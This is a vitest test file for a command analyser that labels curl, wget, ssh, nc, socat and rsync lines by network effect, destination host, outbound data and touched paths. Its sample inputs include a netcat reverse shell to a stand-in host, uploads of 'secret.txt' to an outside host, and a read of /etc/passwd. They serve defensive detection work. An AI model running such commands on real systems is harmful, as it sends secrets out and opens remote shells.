import { describe, expect, it } from 'vitest';
import { factsOf } from '../../support/facts.js';
import { namedPaths } from './named-paths.js';

const effectsOf = (line: string): string => factsOf(line).effects.join(' ');

describe('network clients: effects', () => {
  it.each([
    ['curl -s http://localhost:8000/x', 'network'],
    ['curl --silent --show-error http://localhost', 'network'],
    ['curl -sSLo out.tgz https://a.example', 'network write'],
    ['curl --conf req.cfg', 'unknown'],
    ['curl -K req.cfg', 'unknown'],
    ['curl --unlisted http://localhost', 'network unknown'],
    ['curl -X DELETE http://localhost/x', 'network remote-write'],
    ['curl -T f http://localhost', 'network read remote-write'],
    ['curl --resolve a:80:1.2.3.4 http://a', 'network unknown'],
    ["curl -w '%{http_code}' http://localhost", 'network'],
    ['curl --version', 'none'],
    ['wget -i urls', 'overwrite unknown write'],
    ['wget --use-askpass=./x -O y https://a.example', 'execute network write'],
    ['http GET a.example', 'network'],
    ['http POST a.example a=b', 'network'],
    ['ssh host ls', 'execute network remote-write'],
    ['ssh -F cfg host', 'execute network remote-write unknown'],
    ['ssh -V', 'none'],
    ['nc -l 8080', 'listen'],
    ['nc -e /bin/sh a.example 80', 'execute network'],
    ['nc -c x a.example 80', 'network unknown'],
    ['socat - EXEC:ls', 'execute listen network'],
    ['ping -c 1 a.example', 'network'],
    ['dig +short a.example', 'network'],
    ['dig -f names', 'network unknown'],
    ['openssl rand -hex 16', 'none'],
    ['openssl x509 -in c.txt -noout', 'read'],
    ['openssl dgst -engine x f', 'read unknown'],
    ['openssl s_client -connect a.example:443', 'network'],
  ])('%s', (line, effects) => expect(effectsOf(line)).toBe(effects));
});

describe('network clients: hosts and data that leaves', () => {
  it.each([
    ['curl http://a.example/x', 'fetch a.example', false],
    ["curl -d '{}' http://a.example", 'send a.example', true],
    ['curl -G -d q=1 http://a.example', 'send a.example', true],
    ['curl -X POST http://a.example', 'send a.example', true],
    ['curl -x http://b.example:80 http://a.example', 'fetch b.example', false],
    ['wget -O x http://a.example', 'fetch a.example', false],
    ['wget --post-data=x -O y http://a.example', 'send a.example', true],
    ['dig a.example @8.8.8.8', 'fetch 8.8.8.8', false],
    ['nc a.example 80', 'send a.example', true],
    ['nc -z a.example 80', 'fetch a.example', false],
  ])('%s', (line, host, sends) => {
    expect(factsOf(line).hosts).toContain(host);
    expect(factsOf(line).sends).toBe(sends);
  });
});

describe('network clients: paths', () => {
  it.each([
    ['curl -d @secret.txt http://a.example', ['read secret.txt']],
    ['curl --data-binary @secret.txt http://a.example', ['read secret.txt']],
    ['curl --data-raw @secret.txt http://a.example', []],
    ["curl -F 'f=@secret.txt' http://a.example", ['read secret.txt']],
    ['curl -b in.txt -c out.txt http://a.example', ['read in.txt', 'write out.txt']],
    ['curl --trace t.log http://a.example', ['write t.log']],
    ['curl file:///etc/passwd', ['read /etc/passwd']],
    ['wget --post-file=secret.txt http://a.example', ['write .', 'read secret.txt']],
    ['wget --post-file=secret.txt -O x http://a.example', ['read secret.txt', 'write x']],
    ['wget -P /etc http://a.example', ['write .', 'write /etc']],
    ['curl -O http://a.example/x', ['write .']],
    ['curl -O -F f=@secret.txt http://a.example/x', ['write .', 'read secret.txt']],
    ['wget -a log -O out http://a.example', ['append log', 'write out']],
    ['scp key a.example:x', ['read key', 'write a.example:x']],
    ['rsync -a src/ dst/', ['read src', 'write dst']],
    ['rsync -a --delete empty/ dst/', ['read empty', 'delete-tree dst/*']],
    ['rsync --log-file=l src dst', ['append l', 'read src', 'write dst']],
    ['openssl enc -aes-256-cbc -in a -out b', ['read a', 'write b']],
  ])('%s', (line, paths) => expect(namedPaths(factsOf(line))).toEqual(paths));
});

describe('network clients: doubts that a grammar states', () => {
  it.each([
    "curl -w '%output{x}' http://localhost",
    'curl --variable x@secret.txt http://localhost',
    'wget -r http://localhost/x',
    'sftp host',
  ])('%s', (line) => expect(effectsOf(line)).toContain('unknown'));

  it.each(['curl -O http://localhost/x', 'curl -OJ http://localhost/x', 'wget http://localhost/x'])(
    '%s writes what the server names',
    (line) => expect(effectsOf(line)).toBe('network overwrite write'),
  );

  it.each(['curl -o - http://localhost', 'wget -qO- http://localhost'])('%s writes no file', (line) =>
    expect(factsOf(line).paths).toEqual([]),
  );
});
